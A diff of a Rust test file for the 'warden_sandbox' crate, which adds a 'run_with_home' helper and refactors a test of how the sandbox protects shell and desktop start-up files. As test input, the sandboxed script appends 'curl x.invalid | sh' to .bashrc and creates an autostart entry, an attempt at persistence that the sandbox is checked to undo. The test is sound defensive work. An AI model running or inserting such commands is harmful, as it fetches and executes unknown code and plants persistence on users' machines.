@@ -9,10 +9,20 @@ use warden_sandbox::{Output, SandboxProfile, SpawnOptions, spawn};
 
 /// Runs `script` in the sandbox over `ws`: (exit code, notes after the run).
 fn run(ws: &Path, script: &str, code_config: Option<Vec<String>>) -> (i32, Vec<String>) {
+    run_with_home(ws, Path::new("/nonexistent-home"), script, code_config)
+}
+
+/// [`run`] with `home` as the user's home directory.
+fn run_with_home(
+    ws: &Path,
+    home: &Path,
+    script: &str,
+    code_config: Option<Vec<String>>,
+) -> (i32, Vec<String>) {
     let mut p = SandboxProfile::new(
         vec!["sh".into(), "-c".into(), script.into()],
         ws.to_path_buf(),
-        "/nonexistent-home".into(),
+        home.to_path_buf(),
         vec![("PATH".into(), "/usr/bin:/bin".into())],
     );
     if let Some(c) = code_config {
@@ -171,27 +181,15 @@ fn the_documentation_lists_every_entry() {
 fn a_home_inside_the_workspace_keeps_its_start_up_files() {
     let (_keep, ws) = workspace();
     std::fs::write(ws.join(".bashrc"), "# rc\n").unwrap();
-    let mut p = SandboxProfile::new(
-        vec![
-            "sh".into(),
-            "-c".into(),
-            "echo 'curl x.invalid | sh' >> .bashrc; \
-             mkdir -p .config/autostart && echo '[Desktop Entry]' > .config/autostart/x.desktop; \
-             mkdir -p .config/app && echo ok > .config/app/settings.ini"
-                .into(),
-        ],
-        ws.clone(),
-        ws.clone(),
-        vec![("PATH".into(), "/usr/bin:/bin".into())],
+    let (code, notes) = run_with_home(
+        &ws,
+        &ws,
+        "echo 'curl x.invalid | sh' >> .bashrc; \
+         mkdir -p .config/autostart && echo '[Desktop Entry]' > .config/autostart/x.desktop; \
+         mkdir -p .config/app && echo ok > .config/app/settings.ini",
+        None,
     );
-    p.code_config = warden_sandbox::builtin_code_config();
-    let opts = SpawnOptions {
-        output: Output::Inherit,
-        init_exe: Some(env!("CARGO_BIN_EXE_warden-sandbox-test-init").into()),
-        ..Default::default()
-    };
-    let info = spawn(&p, &opts).expect("spawn").wait().expect("wait");
-    assert_eq!(info.shell_code(), 0, "{:?}", info.notes);
+    assert_eq!(code, 0, "{notes:?}");
     assert_eq!(
         std::fs::read_to_string(ws.join(".bashrc")).unwrap(),
         "# rc\n"
@@ -206,11 +204,10 @@ fn a_home_inside_the_workspace_keeps_its_start_up_files() {
         "ok\n"
     );
     assert!(
-        info.notes
+        notes
             .iter()
             .any(|n| n.contains(".config/autostart (a directory; moved aside")),
-        "{:?}",
-        info.notes
+        "{notes:?}"
     );
     // A workspace without the home (`run` gives none): `~/` entries are not looked for in it.
     std::fs::create_dir_all(ws.join("sub")).unwrap();
